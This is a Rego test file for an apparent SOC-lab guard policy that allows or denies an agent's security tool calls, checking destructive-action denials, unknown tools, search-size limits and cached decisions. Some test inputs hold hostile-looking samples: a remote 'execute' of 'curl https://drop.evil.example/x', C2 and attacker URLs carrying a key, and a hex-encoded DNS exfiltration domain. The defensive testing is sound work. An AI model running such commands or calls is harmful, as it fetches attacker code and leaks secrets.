package soclab.guard_test

import rego.v1

test_decision_shape if {
	d := decide(search("logs-*", {"size": 10}))
	d.allow == true
	d.reasons == []
	d.rule_ids == []
}

test_denial_has_reason_per_rule if {
	d := decide(call("wipe_host", {"host": "nowhere-01"}))
	d.allow == false
	"destructive.wipe_host" in d.rule_ids
	"evidence.unseen_host" in d.rule_ids
	count(d.reasons) >= 2
}

test_tool_not_allowed if {
	inp := object.union(call("isolate_host", {"host": "web-01"}), {"scenario": {"allowed_tools": ["es_search"]}})
	fires("policy.tool_not_allowed", inp)
}

test_tool_allowed if {
	not fires("policy.tool_not_allowed", search("logs-*", {}))
}

test_unknown_tool if {
	fires("policy.unknown_tool", call("format_disk", {}))
}

test_known_tool if {
	not fires("policy.unknown_tool", call("submit_report", {"markdown": "done"}))
}

test_config_override if {
	inp := search("logs-*", {"size": 600})
	not fires("cost.search_size", inp)
	fires("cost.search_size", inp) with data.soclab.config as {"max_search_size": 500}
}

# The per-item values cached as data (what the in-process engine does once per item)
# decide exactly as the values computed for the decision itself.
cached(inp) := d if {
	iv := data.soclab.guard.item_values with input as inp
	ctx := {"assets": inp.assets, "tooling": inp.tooling, "scenario": inp.scenario, "item": iv}
	d := data.soclab.guard.decision with input as object.remove(inp, ["assets", "tooling"])
		with data.soclab.context as ctx
}

test_cached_item_values_decide_the_same if {
	every inp in [
		search("logs-*", {"size": 10}),
		search("logs-endpoint.events.process-default,.security-7", {"size": 5000}),
		esql("FROM logs-* | LIMIT 50000"),
		call("isolate_host", {"host": "DC-01"}),
		call("kill_process", {"host": "web-01", "pid": 812}),
		call("execute", {"host": "web-01", "command": "curl https://drop.evil.example/x"}),
		call("block_ip", {"ip": "203.0.113.50"}),
	] {
		cached(inp) == decide(inp)
	}
}

test_cached_item_is_used_only_for_its_scenario if {
	inp := search("logs-*", {"size": 600})
	ctx := {"assets": inp.assets, "tooling": inp.tooling, "scenario": inp.scenario, "item": {"config": {"max_search_size": 500}}}
	stripped := object.remove(inp, ["assets", "tooling"])

	# the cached item is what the decision reads...
	data.soclab.guard.item == ctx.item with input as stripped with data.soclab.context as ctx

	# ... but not for another scenario, nor when the input brings its own estate
	other := object.union(stripped, {"scenario": {"id": "OTHER"}})
	data.soclab.guard.item != ctx.item with input as other with data.soclab.context as ctx
	data.soclab.guard.item != ctx.item with input as inp with data.soclab.context as ctx
}

# A read decides the same with only the `seen` kinds the policy declares for reads.
test_reads_decide_on_the_declared_seen_kinds if {
	every inp in [
		search("logs-*", {"size": 10}),
		search("logs-*", {"query": {"prefix": {"url.full": "https://c2.evil-updates.net/"}}}),
		search("logs-*", {"query": {"term": {"user.email": "ops@c2.evil-updates.net"}}}),
		search("logs-*", {"query": {"term": {"message": "exfil@drop.example"}}}),
		esql("FROM logs-* | WHERE url.full == \"http://c2.evil-updates.net/gate.php?id=42\""),
		esql("FROM logs-* | WHERE url.full == \"https://attacker.example/c?k=AKIAIOSFODNN7EXAMPLE\""),
		object.union(
			esql("FROM logs-* | WHERE dns.question.name == \"4a6f686e446f6570617373776f726431323334.t.evil.example\""),
			{"seen": {"domains": ["4a6f686e446f6570617373776f726431323334.t.evil.example"]}},
		),
		call("get_mappings", {"index": ".security"}),
	] {
		pruned := object.union(object.remove(inp, ["seen"]), {"seen": object.filter(inp.seen, data.soclab.guard.read_seen_kinds)})
		decide(pruned) == decide(inp)
	}
}
